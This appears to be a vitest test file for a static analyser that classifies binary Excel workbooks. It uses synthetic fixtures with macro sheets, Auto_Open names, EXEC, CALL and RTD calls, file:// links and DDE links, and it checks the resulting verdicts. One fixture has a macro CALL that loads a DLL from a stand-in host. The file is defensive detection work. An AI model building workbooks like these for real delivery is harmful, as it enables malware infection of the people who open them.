import { describe, expect, test } from 'vitest';
import {
  type BinaryFixture,
  binaryWorkbook,
  callToken,
  formulaCell,
  record,
  textToken,
  wide,
} from '../../hostile/static/xlsb-fixture.ts';
import { reportOn, verdictOn } from './analyse.ts';

const [EXEC, CALL, RTD, HYPERLINK] = [110, 150, 379, 359];
const linkCell = (...texts: readonly string[]) => formulaCell(...texts.map(textToken), callToken(HYPERLINK, 2));
const otherBook = (kind: number, first: string, second: string) =>
  Buffer.concat([record(360, Buffer.concat([Buffer.from([kind, 0]), wide(first), wide(second)])), record(588)]);

describe('a binary workbook', () => {
  test.each<[string, BinaryFixture, string]>([
    ['with sums', {}, 'benign'],
    ['with a hidden sheet', { isHidden: true }, 'benign'],
    ['with an ordinary name', { names: ['Prices'] }, 'benign'],
    [
      'with a text and a branch',
      { cells: [formulaCell(textToken('open'), Buffer.from([0x19, 0x02, 9, 0]), textToken('closed'))] },
      'benign',
    ],
    ['with a macro sheet', { isMacroSheet: true }, 'suspicious office-xlm-macro'],
    ['with a name that runs', { names: ['Auto_Open'] }, 'suspicious office-xlm-macro xlm-auto-run'],
    [
      'with a hidden macro sheet',
      { isMacroSheet: true, isHidden: true },
      'suspicious office-xlm-macro xlm-hidden-sheet',
    ],
    [
      'with a call on an ordinary sheet',
      { cells: [formulaCell(callToken(CALL, 3))] },
      'suspicious office-dangerous-formula',
    ],
    ['with a data server', { cells: [formulaCell(callToken(RTD, 3))] }, 'suspicious office-dangerous-formula'],
    [
      'with a macro call on a sheet that says it is none',
      { cells: [formulaCell(callToken(EXEC, 1))] },
      'suspicious xlm-dangerous-call',
    ],
    ['with a link to the web', { cells: [linkCell('https://a.example/', 'Status: a')] }, 'benign'],
    ['with a link to a share', { cells: [linkCell('fi', 'le://load.example/x')] }, 'suspicious office-unsafe-link'],
    ['with a link to a drive', { cells: [linkCell('file:///S:/a.docx', 'a')] }, 'unknown office-file-link'],
    ['with a function that fetches', { names: ['_xlfn.WEBSERVICE'] }, 'suspicious office-dangerous-formula'],
    ['linked to another book', { link: otherBook(0, 'r1', '') }, 'suspicious office-data-connection'],
    ['linked to a program', { link: otherBook(1, 'Excel', 'System') }, 'suspicious office-data-connection office-dde'],
    ['with a token that nobody knows', { cells: [formulaCell(Buffer.from([0x18, 0x77, 0, 0]))] }, 'unknown'],
    ['whose records break off', { cells: [Buffer.from([0x09, 0xff, 0xff, 0x7f])] }, 'unknown'],
  ])('%s', async (_, fixture, expected) => {
    expect(await verdictOn(binaryWorkbook(fixture), 'a.xlsb')).toBe(expected);
  });

  test('shows the call and its texts, and gives them to the rules', async () => {
    const cells = [formulaCell(textToken('http://files.example.invalid/a.dll'), callToken(CALL, 2))];
    const { findings, iocs } = await reportOn(binaryWorkbook({ isMacroSheet: true, cells }), 'a.xlsb');
    expect(findings.find(({ id }) => id === 'xlm-dangerous-call')).toMatchObject({
      where: 'xl/macrosheets/sheet1.bin',
      evidence: 'CALL (http://files.example.invalid/a.dll)',
    });
    expect(iocs).toContainEqual({ type: 'url', value: 'http://files.example.invalid/a.dll' });
  });
});
